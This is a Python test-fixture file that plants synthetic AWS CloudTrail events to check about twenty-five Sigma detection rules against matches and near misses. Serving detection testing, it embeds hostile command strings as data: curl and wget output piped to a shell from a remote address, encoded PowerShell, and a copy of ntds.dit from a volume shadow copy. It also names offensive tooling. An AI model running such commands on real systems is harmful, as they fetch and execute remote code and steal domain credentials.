"""Events planted for the Sigma rules in ``sigma_rules/``: for every rule, events that must match it and near
misses that must not, each with the ids of every rule it matches (the tests hold the Sigma backend's SQL and an
independent evaluator to exactly these)."""

from __future__ import annotations

import datetime as dt
import json
import random
import re
from pathlib import Path
from typing import Any

from trailduck.synthetic.cases import ABSENT, PlantedEvent, sign_in, with_mfa
from trailduck.synthetic.events import EventFactory, Record

#: The Sigma rules the cases are planted for: one rule a file, named after its title in snake case.
SIGMA_RULES = Path(__file__).parent / "sigma_rules"


# The short names the plants below use, for the rule files' stems.
_RULES = {
    "stopped": "cloudtrail_logging_stopped",
    "nomfa": "console_login_without_mfa",
    "allowall": "iam_policy_allows_all_actions",
    "public": "s3_bucket_policy_grants_public_access",
    "secret": "secret_read_from_outside_corporate_network",
    "portfwd": "ssm_port_forwarding_to_remote_access_port",
    "encoded": "ssm_command_with_encoded_powershell",
    "otherkey": "access_key_created_for_another_user",
    "userdata": "ec2_user_data_modified",
    "root": "root_user_activity",
    "tooling": "offensive_security_tooling",
    "pipe": "ssm_shell_script_pipes_download_to_shell",
    "kmspolicy": "kms_key_policy_allows_any_aws_principal",
    "orgleave": "organization_leave_or_account_removal",
    "guardduty": "guardduty_detector_disabled",
    "lambdaurl": "lambda_function_url_without_authentication",
    "awsname": "iam_user_created_with_aws_like_name",
    "tempbin": "ssm_command_runs_binary_from_temp_or_shadow_copy",
    "launch": "ec2_gpu_or_bulk_instance_launch",
    "longsession": "long_sts_session_requested",
    "password": "account_password_policy_weakened",
    "kmsdelete": "kms_key_scheduled_for_deletion_with_short_window",
    "bpa": "s3_block_public_access_disabled",
    "readonly": "write_activity_by_read_only_role",
    "exports": "objects_deleted_from_customer_export_bucket",
}
_ID_LINE = re.compile(
    r"^id:\s*([0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})\s*$", re.MULTILINE
)


def sigma_rule_ids(folder: Path = SIGMA_RULES) -> dict[str, str]:
    """Each rule file's stem and its id, read from the file's ``id:`` line (the file owns the id)."""
    ids = {}
    for path in sorted(folder.glob("*.yml")):
        found = _ID_LINE.search(path.read_text(encoding="utf-8"))
        if found is None:
            raise ValueError(f"{path}: no top-level 'id: <uuid>' line; every Sigma rule needs one")
        ids[path.stem] = found.group(1)
    return ids


def _policy(action: str = "*", effect: str = "Allow") -> dict[str, Any]:
    return {
        "Version": "2012-10-17",
        "Statement": [{"Effect": effect, "Action": action, "Resource": "*"}],
    }


def _key_policy(principal: Any, action: str) -> dict[str, Any]:
    return {
        "Version": "2012-10-17",
        "Id": "key-default-1",
        "Statement": [
            {
                "Sid": "Enable IAM User Permissions",
                "Effect": "Allow",
                "Principal": principal,
                "Action": action,
                "Resource": "*",
            }
        ],
    }


def _bucket_policy(principal: Any, sid: str = "PublicRead") -> dict[str, Any]:
    return {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": sid,
                "Effect": "Allow",
                "Principal": principal,
                "Action": "s3:GetObject",
                "Resource": "arn:aws:s3:::prod-data/*",
            }
        ],
    }


def sigma_cases(rng: random.Random, account: str, region: str, start: dt.datetime) -> list[PlantedEvent]:
    """For every Sigma rule, events that match it and near misses that must not, one minute apart from
    ``start``. ``account`` must be 12 digits (the root rule's pattern wants them)."""
    ids = sigma_rule_ids()
    f = EventFactory(rng, account, region)
    out: list[PlantedEvent] = []
    clock = [start]

    def at() -> dt.datetime:
        clock[0] += dt.timedelta(minutes=1)
        return clock[0]

    def plant(matches: str, source: str, name: str, identity: Record | None = None, **extra: Any) -> Record:
        rec = f.record(at(), source, name, identity or f.iam_user("planted-admin"), **extra)
        for key, value in list(rec.items()):
            if value is ABSENT:
                del rec[key]
        out.append(PlantedEvent(rec, frozenset(ids[_RULES[m]] for m in matches.split())))
        return rec

    def role(name: str) -> Record:
        """A session of the role ``name`` (the factory picks the role at random)."""
        ident = f.assumed_role(clock[0])
        session = ident["principalId"].split(":", 1)[1]
        issuer = ident["sessionContext"]["sessionIssuer"]
        issuer["userName"] = name
        issuer["arn"] = f"arn:aws:iam::{account}:role/{name}"
        ident["arn"] = f"arn:aws:sts::{account}:assumed-role/{name}/{session}"
        return ident

    def login(matches: str, identity: Record, result: str, mfa: Any = ABSENT) -> Record:
        return with_mfa(
            plant(matches, "signin.amazonaws.com", "ConsoleLogin", identity, **sign_in(result)), mfa
        )

    user = f.iam_user
    trail = {"name": f"arn:aws:cloudtrail:{region}:{account}:trail/management-events"}
    # CloudTrail logging stopped: a null rule (errorCode absent or null)
    plant("stopped", "cloudtrail.amazonaws.com", "StopLogging", requestParameters=trail)
    plant("stopped", "cloudtrail.amazonaws.com", "DeleteTrail", requestParameters=trail, errorCode=None)
    plant("stopped", "cloudtrail.amazonaws.com", "stoplogging", requestParameters=trail)  # case-insensitive
    plant("", "cloudtrail.amazonaws.com", "StopLogging", requestParameters=trail, errorCode="AccessDenied")
    plant("", "cloudtrail.amazonaws.com", "GetTrailStatus", requestParameters=trail)
    plant(
        "stopped tooling",
        "cloudtrail.amazonaws.com",
        "StopLogging",
        requestParameters=trail,
        userAgent="stratus-red-team_6c1fd0e4-2b7a-4a51-9f0e-3d8c2a1b0e77",
    )
    # Console login without MFA: `not` over an absent userIdentity.type is true
    login("nomfa", user("dave"), "Success", "No")
    login("nomfa", user("erin"), "Success", "no")
    login("", user("frank"), "Success", "Yes")
    login("", user("grace"), "Success")  # no MFAUsed
    login("", user("heidi"), "Success", None)
    login("", user("ivan"), "Success", False)  # the text 'false', not 'No'
    login("", role("AWSReservedSSO_AdministratorAccess_0123456789abcdef"), "Success", "No")
    untyped = user("judy")
    del untyped["type"]
    login("nomfa", untyped, "Success", "No")
    login("", user("mallory"), "Failure", "No")
    login("nomfa root", f.root(), "Success", "No")
    # IAM policy allows all actions: contains|all, a literal \*, an object as its compact JSON
    compact = json.dumps(_policy(), separators=(",", ":"))
    iam = "iam.amazonaws.com"
    plant("allowall", iam, "PutUserPolicy", requestParameters={"userName": "bob", "policyDocument": compact})
    plant("allowall", iam, "CreatePolicy", requestParameters={"policyName": "x", "policyDocument": _policy()})
    s3_star = json.dumps(_policy("s3:*"), separators=(",", ":"))
    plant("", iam, "PutRolePolicy", requestParameters={"roleName": "app", "policyDocument": s3_star})
    deny = json.dumps(_policy(effect="Deny"), separators=(",", ":"))
    plant("", iam, "PutRolePolicy", requestParameters={"roleName": "app", "policyDocument": deny})
    pretty = json.dumps(_policy(), indent=4)  # "Action": "*" with a space
    plant("", iam, "PutUserPolicy", requestParameters={"userName": "bob", "policyDocument": pretty})
    plant("", iam, "GetUserPolicy", requestParameters={"userName": "bob", "policyDocument": compact})
    # S3 bucket policy grants public access: an object (non-ASCII included) as its compact JSON
    s3 = "s3.amazonaws.com"

    def bucket(policy: Any) -> Record:
        return {
            "bucketName": "prod-data",
            "bucketPolicy": policy,
            "policy": [""],
            "Host": "prod-data.s3.amazonaws.com",
        }

    plant("public", s3, "PutBucketPolicy", requestParameters=bucket(_bucket_policy("*", "ÖffentlichLesen")))
    plant("public", s3, "PutBucketPolicy", requestParameters=bucket(_bucket_policy({"AWS": "*"})))
    partner = {"AWS": "arn:aws:iam::444455556666:root"}
    plant("", s3, "PutBucketPolicy", requestParameters=bucket(_bucket_policy(partner)))
    plant("", s3, "PutBucketPolicy", requestParameters=bucket(json.dumps(_bucket_policy("*"), indent=2)))
    plant("", s3, "GetBucketPolicy", requestParameters=bucket(_bucket_policy("*")))
    # Secret read from outside the corporate networks: cidr over IPv4 and IPv6, endswith, not over absent
    sm = "secretsmanager.amazonaws.com"
    secret = {"secretId": "prod/db/password"}
    for matches, ip in (
        ("", "10.20.30.40"),
        ("secret", "203.0.113.9"),
        ("", "2001:db8:1::5"),
        ("secret", "2001:db8:2::5"),
        ("", "secretsmanager.amazonaws.com"),
        ("secret", "amazonaws.com.attacker.example"),  # endswith: extra text after
        ("secret", "192.168.1.300"),  # not an address
        ("secret", ABSENT),
        ("secret", None),
    ):
        plant(matches, sm, "GetSecretValue", requestParameters=secret, sourceIPAddress=ip)
    plant("", sm, "ListSecrets", sourceIPAddress="203.0.113.9")
    # SSM port forwarding: numbers against their text, a value inside a list, a trailing wildcard
    ssm = "ssm.amazonaws.com"

    def session(port: Any, document: str = "AWS-StartPortForwardingSession") -> Record:
        return {"target": "i-0a1b2c3d4e5f60718", "documentName": document, "parameters": {"portNumber": port}}

    plant("portfwd", ssm, "StartSession", requestParameters=session(["3389"]))  # "3389" vs 3389
    plant("portfwd", ssm, "StartSession", requestParameters=session(22))
    plant("portfwd", ssm, "StartSession", requestParameters=session(5432))  # 5432 vs '5432'
    plant("portfwd", ssm, "StartSession", requestParameters=session(["8080", "22"]))
    plant(
        "portfwd",
        ssm,
        "StartSession",
        requestParameters=session(["5432"], "AWS-StartPortForwardingSessionToRemoteHost"),
    )
    plant("portfwd", ssm, "StartSession", requestParameters=session(["22"], "aws-startportforwardingsession"))
    plant("", ssm, "StartSession", requestParameters=session(["443"]))
    plant("", ssm, "StartSession", requestParameters=session(["33890"]))
    plant("", ssm, "StartSession", requestParameters=session(["22"], "AWS-StartInteractiveCommand"))
    plant("", ssm, "StartSession", requestParameters=session(["22"], "Custom-AWS-StartPortForwardingSession"))
    plant("", ssm, "StartSession", requestParameters={"target": "i-0a1b2c3d4e5f60718"})

    # SSM SendCommand: windash, re|m, and literal backslashes and question marks
    def command(lines: Any, document: str = "AWS-RunPowerShellScript") -> Record:
        return {
            "instanceIds": ["i-0a1b2c3d4e5f60718"],
            "documentName": document,
            "parameters": {"commands": lines},
        }

    for matches, line in (
        ("encoded", "powershell.exe -enc SQBFAFgA"),
        ("encoded", "powershell.exe /enc SQBFAFgA"),
        ("encoded", "powershell.exe \u2013EncodedCommand SQBFAFgA"),
        ("encoded", "powershell.exe \u2014enc SQBFAFgA"),
        ("encoded", "powershell.exe \u2015ENC SQBFAFgA"),
        ("", "powershell.exe -ep bypass -File C:\\scripts\\x.ps1"),
        ("", "powershell.exe _enc SQBFAFgA"),
        ("", "powershell.exe -EncodedCommandX SQBFAFgA"),
        ("tempbin", "Start-Process C:\\Windows\\Temp\\svc.exe"),
        ("tempbin", "start-process c:\\windows\\temp\\svc.exe"),
        ("", "Start-Process C:\\Windows\\Tempest\\svc.exe"),
        ("", "Start-Process C:/Windows/Temp/svc.exe"),
        (
            "tempbin",
            "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit x",
        ),
        (
            "",
            "cmd.exe /c copy \\\\X\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit x",
        ),
    ):
        plant(matches, ssm, "SendCommand", requestParameters=command([line]))
    plant("", ssm, "SendCommand", requestParameters=command(["pwsh -enc SQBFAFgA"], "AWS-RunShellScript"))
    sh = "AWS-RunShellScript"
    for matches, script in (
        ("pipe", "#!/bin/bash\ncurl -fsSL http://198.51.100.9/x.sh | sh"),  # on the second line: |m
        ("pipe", "wget -qO- http://198.51.100.9/i | sudo bash"),
        ("", "echo 'curl http://198.51.100.9/x | sh' > notes.txt"),
        ("", "curl -o /tmp/x http://198.51.100.9/x"),
        ("", "#!/bin/bash\nCURL http://198.51.100.9/x | sh"),  # |re is case-sensitive
    ):
        plant(matches, ssm, "SendCommand", requestParameters=command([script], sh))
    # Access key created for another user: fieldref equal/unequal, exists: false
    params: Record | None  # requestParameters, one plant at a time
    for matches, who, params in (
        ("", user("alice"), {"userName": "alice"}),
        ("otherkey", user("alice"), {"userName": "bob"}),
        ("", user("alice"), {"userName": "ALICE"}),  # equal case-insensitively
        ("", user("alice"), None),
        ("", user("alice"), {}),
        ("otherkey root", f.root(), {"userName": "bob"}),  # the root has no userName to equal
        ("root", f.root(), None),
        ("otherkey", role("Admin"), {"userName": "bob"}),
    ):
        plant(matches, iam, "CreateAccessKey", who, requestParameters=params)
    plant("", iam, "CreateUser", user("alice"), requestParameters={"userName": "bob"})
    # EC2 user data modified: exists: true on a key whose value is null
    ec2 = "ec2.amazonaws.com"
    instance = "i-0a1b2c3d4e5f60718"
    for matches, params in (
        ("userdata", {"instanceId": instance, "userData": "<sensitiveDataRemoved>"}),
        ("userdata", {"instanceId": instance, "userData": None}),
        ("", {"instanceId": instance, "instanceType": {"value": "t3.large"}}),
        ("", None),
    ):
        plant(matches, ec2, "ModifyInstanceAttribute", requestParameters=params)
    plant(
        "",
        ec2,
        "DescribeInstanceAttribute",
        requestParameters={"instanceId": instance, "attribute": "userData"},
    )
    # Root user activity: re (case-sensitive), not (a or b)
    plant("root", iam, "GetAccountSummary", f.root())
    plant("", s3, "GetBucketAcl", f.root(invoked_by="cloudtrail.amazonaws.com"))
    plant("", iam, "GetAccountSummary", f.root(), eventType="AwsServiceEvent")
    shouting = f.root()
    shouting["arn"] = shouting["arn"].upper()
    plant("", iam, "GetAccountSummary", shouting)
    short = f.root()
    short["arn"] = "arn:aws:iam::1111:root"
    plant("", iam, "GetAccountSummary", short)
    # Offensive tooling: keywords anywhere (nested lists too, not keys), re|i on the user agent
    tags = {
        "items": [{"resourceType": "instance", "tags": [{"key": "created-by", "value": "Stratus-Red-Team"}]}]
    }
    plant(
        "tooling",
        ec2,
        "CreateTags",
        requestParameters={"resourcesSet": {"items": []}, "tagSpecificationSet": tags},
    )
    plant("", ec2, "CreateTags", requestParameters={"stratus-red-team-run": 1})
    plant("", "sts.amazonaws.com", "GetCallerIdentity", userAgent="aws-cli/2.15.0 stratus-red-team_1f2e")
    sns = "sns.amazonaws.com"
    topic = f"arn:aws:sns:{region}:{account}:alerts"
    hook = "https://q1w2e3.burpcollaborator.net"
    plant(
        "tooling",
        sns,
        "Subscribe",
        requestParameters={"topicArn": topic, "protocol": "https", "endpoint": hook},
    )
    plant(
        "",
        sns,
        "Subscribe",
        requestParameters={"topicArn": topic, "protocol": "https", "endpoint": hook + "/x"},
    )
    kali = "aws-cli/1.22.34 Python/3.9.2 Linux/5.16.0-kali7-amd64 botocore/1.23.34"
    plant("tooling", "sts.amazonaws.com", "GetCallerIdentity", userAgent=kali)
    debian = "aws-cli/1.22.34 Python/3.9.2 Linux/6.1.0-debian12-amd64 botocore/1.23.34"
    plant("", "sts.amazonaws.com", "GetCallerIdentity", userAgent=debian)
    # KMS key policy allows any AWS principal: re|s across the lines of a pretty-printed policy
    kms = "kms.amazonaws.com"
    key = {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab", "policyName": "default"}
    any_aws = {"AWS": "*"}
    plant(
        "kmspolicy",
        kms,
        "PutKeyPolicy",
        requestParameters={**key, "policy": json.dumps(_key_policy(any_aws, "kms:*"), indent=4)},
    )
    plant(
        "kmspolicy", kms, "CreateKey", requestParameters={"policy": json.dumps(_key_policy(any_aws, "kms:*"))}
    )
    own = {"AWS": f"arn:aws:iam::{account}:root"}
    plant(
        "",
        kms,
        "PutKeyPolicy",
        requestParameters={**key, "policy": json.dumps(_key_policy(own, "kms:*"), indent=4)},
    )
    plant(
        "",
        kms,
        "PutKeyPolicy",
        requestParameters={**key, "policy": json.dumps(_key_policy(any_aws, "kms:Decrypt"), indent=4)},
    )
    # KMS key scheduled for deletion within a week: lte at the boundary, resources listed
    key_arn = f"arn:aws:kms:{region}:{account}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    resources = [{"accountId": account, "type": "AWS::KMS::Key", "ARN": key_arn}]
    for matches, days in (("kmsdelete", 7), ("", 8), ("", ABSENT), ("kmsdelete", "3")):
        params = {"keyId": key_arn} if days is ABSENT else {"keyId": key_arn, "pendingWindowInDays": days}
        plant(matches, kms, "ScheduleKeyDeletion", requestParameters=params, resources=resources)
    # Organizations: 1 of them leaves out _preceding_read
    org = "organizations.amazonaws.com"
    plant("orgleave", org, "LeaveOrganization")
    plant("orgleave", org, "RemoveAccountFromOrganization", requestParameters={"accountId": "444455556666"})
    plant("", org, "DescribeOrganization")
    plant("", org, "ListAccounts")
    # GuardDuty: all of them leaves out _filter_failed; not 1 of _filter* takes it
    gd = "guardduty.amazonaws.com"
    detector = {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}
    plant("guardduty", gd, "DeleteDetector", requestParameters=detector)
    plant("guardduty", gd, "DisassociateFromAdministratorAccount", requestParameters=detector)
    plant("", gd, "DeleteDetector", requestParameters=detector, errorCode="AccessDenied")
    plant("", gd, "ListDetectors")
    # Lambda function URL without auth: all of selection_*, startswith
    lam = "lambda.amazonaws.com"
    for matches, name, auth in (
        ("lambdaurl", "CreateFunctionUrlConfig20211031", "NONE"),
        ("lambdaurl", "UpdateFunctionUrlConfig20211031", "none"),
        ("", "CreateFunctionUrlConfig20211031", "AWS_IAM"),
        ("", "GetFunctionUrlConfig20211031", "NONE"),
        ("", "BatchCreateFunctionUrlConfig", "NONE"),  # startswith: extra text before
        ("", "CreateFunctionUrlConfig20211031", ABSENT),
    ):
        params = {"functionName": "reporting"} | ({} if auth is ABSENT else {"authType": auth})
        plant(matches, lam, name, requestParameters=params)
    # IAM user with an AWS-like name: cased|startswith
    for matches, name in (
        ("awsname", "AWSSupportAccess"),
        ("awsname", "Amazon-Backup-Agent"),
        ("", "awsome-dev"),
        ("", "AMAZON-backup"),
        ("", "my-AWS-helper"),
    ):
        plant(matches, iam, "CreateUser", user("alice"), requestParameters={"userName": name})
    plant("", iam, "CreateUser", user("alice"))
    # EC2 GPU or bulk launch: ? wildcards, gte at the boundary, 1 of launch_*
    for matches, itype, count in (
        ("launch", "p3.16xlarge", 1),
        ("launch", "p4d.24xlarge", 1),
        ("launch", "g5.48xlarge", 1),
        ("", "p3dn.24xlarge", 1),
        ("", "t3.micro", 9),
        ("launch", "t3.micro", 10),
        ("launch", "t3.micro", "25"),
        ("", "t3.micro", ABSENT),
    ):
        params = {"instanceType": itype, "minCount": 1} | ({} if count is ABSENT else {"maxCount": count})
        plant(matches, ec2, "RunInstances", role("ci-deployer"), requestParameters=params)
    # Long STS session: gt at the boundary
    sts = "sts.amazonaws.com"
    for matches, seconds in (
        ("", 3600),
        ("longsession", 3601),
        ("longsession", 43200),
        ("longsession", "7200"),
        ("", "3600"),
        ("", None),
        ("", ABSENT),
    ):
        params = {"roleArn": f"arn:aws:iam::{account}:role/Admin", "roleSessionName": "s"}
        if seconds is not ABSENT:
            params["durationSeconds"] = seconds
        plant(matches, sts, "AssumeRole", requestParameters=params)
    # Password policy weakened: lt at the boundary, a boolean against JSON false and the text "FALSE"
    for matches, length, symbols in (
        ("password", 13, True),
        ("", 14, True),
        ("password", 14, False),
        ("password", 16, "FALSE"),
        ("", 16, "true"),
        ("", 20, ABSENT),
    ):
        params = {"minimumPasswordLength": length, "requireNumbers": True}
        if symbols is not ABSENT:
            params["requireSymbols"] = symbols
        plant(matches, iam, "UpdateAccountPasswordPolicy", requestParameters=params)
    # S3 Block Public Access disabled: a list of maps, 'false' against JSON false and the text "false"
    for matches, config in (
        ("bpa", {"BlockPublicPolicy": False, "RestrictPublicBuckets": True}),
        ("bpa", {"BlockPublicPolicy": True, "RestrictPublicBuckets": "false"}),
        ("", {"BlockPublicPolicy": True, "RestrictPublicBuckets": True}),
        ("", ABSENT),
    ):
        params = {"bucketName": "prod-data"}
        if config is not ABSENT:
            params["PublicAccessBlockConfiguration"] = {
                "BlockPublicAcls": True,
                "IgnorePublicAcls": True,
                **config,
            }
        plant(matches, s3, "PutBucketPublicAccessBlock", requestParameters=params)
    # Write activity by the ReadOnly role: a deep path, readOnly false (a JSON boolean)
    snapshot = {"volumeId": "vol-0a1b2c3d4e5f60718"}
    plant("readonly", ec2, "CreateSnapshot", role("ReadOnly"), requestParameters=snapshot)
    plant("", ec2, "DescribeSnapshots", role("ReadOnly"), readOnly=True)
    plant("", ec2, "CreateSnapshot", role("Admin"), requestParameters=snapshot)
    plant("", ec2, "CreateSnapshot", role("ReadOnly"), requestParameters=snapshot, readOnly=ABSENT)
    # Objects deleted from the customer export bucket: resources.ARN looks into every resource
    for matches, name, bucket_name, listed in (
        ("exports", "DeleteObject", "customer-exports", True),
        ("exports", "DeleteObjects", "customer-exports", True),
        ("", "DeleteObject", "customer-exports-staging", True),
        ("", "GetObject", "customer-exports", True),
        ("", "DeleteObject", "customer-exports", False),
    ):
        obj = {"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket_name}/2024/q1.csv"}
        bkt = {"accountId": account, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket_name}"}
        plant(
            matches,
            s3,
            name,
            role("Admin"),
            requestParameters={"bucketName": bucket_name, "key": "2024/q1.csv"},
            resources=([bkt, obj] if name == "DeleteObjects" else [obj, bkt]) if listed else ABSENT,
            readOnly=name == "GetObject",
            managementEvent=False,
            eventCategory="Data",
        )
    return out
